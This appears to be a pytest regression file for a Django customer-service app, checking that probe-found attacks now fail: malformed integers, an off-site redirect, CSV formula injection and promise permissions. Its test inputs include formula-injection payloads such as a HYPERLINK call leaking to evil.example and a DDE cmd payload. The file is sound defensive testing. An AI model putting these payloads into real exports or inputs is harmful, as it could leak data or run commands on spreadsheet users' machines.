"""Attacks from the security probe that now fail: odd numbers, formula cells, open redirects, promises."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from conftest import login
from dangol.common.csv import neutralise
from dangol.common.params import parse_int
from dangol.customers.models import Customer
from dangol.promises.models import Promise
from dangol.promises.services import promise_make

HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [("12", 12), ("²", None), ("٣", None), (HUGE, None), ("-1", None), ("", None), (" 7 ", 7), ("1e3", None)],
)
def test_parse_int_accepts_only_ascii_digits_in_range(raw, expected):
    assert parse_int(raw, minimum=0) == expected


@pytest.mark.parametrize("page", ["²", HUGE, "-3", "abc"])
@pytest.mark.parametrize("url", ["/customers/", "/voc/queue/"])
def test_list_pages_answer_odd_page_numbers_without_a_500(as_manager, url, page):
    response = as_manager.get(url, {"page": page})
    assert response.status_code == 200


@pytest.mark.parametrize(
    "url",
    [f"/customers/{HUGE}/", f"/voc/{HUGE}/", f"/customers/{HUGE}/timeline/", f"/voc/{HUGE}/evidence.csv"],
)
def test_ids_too_large_for_the_database_are_a_404(as_manager, url):
    assert as_manager.get(url).status_code == 404


def test_odd_ids_in_forms_are_refused_not_500(as_manager, shop):
    hong = shop["hong"]
    assert as_manager.post(f"/customers/{hong.pk}/merge/", {"other": "²"}).status_code == 302
    assert as_manager.post(f"/customers/{hong.pk}/merge/", {"other": HUGE}).status_code == 302
    assert Customer.objects.filter(status=Customer.Status.MERGED).count() == 0
    assert as_manager.get("/voc/new/", {"customer": "²", "interaction": HUGE}).status_code == 200
    response = as_manager.post("/voc/queue/assign/", {"case": ["²", HUGE], "assignee": "²"})
    assert response.status_code == 302


def test_bulk_assignment_does_not_redirect_off_site(as_manager):
    response = as_manager.post("/voc/queue/assign/", {"next": "https://evil.example/x"})
    assert response.status_code == 302
    assert "evil.example" not in response["Location"]
    inside = as_manager.post("/voc/queue/assign/", {"next": "/voc/queue/?queue=team"})
    assert inside["Location"] == "/voc/queue/?queue=team"


@pytest.mark.parametrize(
    "payload", ['=HYPERLINK("http://evil.example/?leak","x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_neutralise_prefixes_formula_cells(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("홍길동") == "홍길동"
    assert neutralise(-5) == -5


def _rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_customer_export_neutralises_formula_cells_masked_and_unmasked(as_admin, shop):
    evil = '=HYPERLINK("http://evil.example/?leak","x")'
    Customer.objects.filter(pk=shop["kim"].pk).update(external_id="@SUM(1+1)", name=evil)
    for params in ({}, {"unmasked": "1"}):
        rows = _rows(as_admin.get("/customers/export.csv", params))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'@SUM(1+1)" in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
        if params:
            assert "'" + evil in cells


def test_case_evidence_and_access_log_exports_neutralise_formula_cells(as_admin, shop):
    from dangol.voc.services import case_open

    case = case_open(
        customer=shop["hong"],
        kind="complaint",
        title="=cmd|' /C calc'!A0",
        body="+1+1 환불해 주세요",
        by=shop["admin"],
    )
    rows = _rows(as_admin.get(f"/voc/{case.pk}/evidence.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'+1+1 환불해 주세요" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    log_rows = _rows(as_admin.get("/privacy/access-log/", {"format": "csv"}))
    assert not any(cell.startswith(("=", "+", "@")) for row in log_rows[1:] for cell in row)


def test_only_owner_team_lead_or_manager_resolve_a_promise(client, shop):
    ops, clerk, agent, manager = shop["ops"], shop["clerk"], shop["agent"], shop["manager"]
    promise = promise_make(
        customer=shop["hong"],
        owner=clerk,
        text="내일 재고 확인 후 연락",
        due_at=timezone.now() + dt.timedelta(days=1),
        by=clerk,
    )
    url = f"/customers/promises/{promise.pk}/resolve/"
    login(client, agent)  # an agent of another team
    client.post(url, {"kept": "0"}, HTTP_HX_REQUEST="true")
    promise.refresh_from_db()
    assert promise.status == Promise.Status.OPEN
    ops.lead = agent  # now the agent leads the owner's team
    ops.save()
    client.post(url, {"kept": "1"}, HTTP_HX_REQUEST="true")
    promise.refresh_from_db()
    assert promise.status == Promise.Status.KEPT
    other = promise_make(
        customer=shop["hong"],
        owner=clerk,
        text="교환 처리",
        due_at=timezone.now() + dt.timedelta(days=1),
        by=clerk,
    )
    login(client, manager)
    client.post(f"/customers/promises/{other.pk}/resolve/", {"kept": "1"}, HTTP_HX_REQUEST="true")
    other.refresh_from_db()
    assert other.status == Promise.Status.KEPT
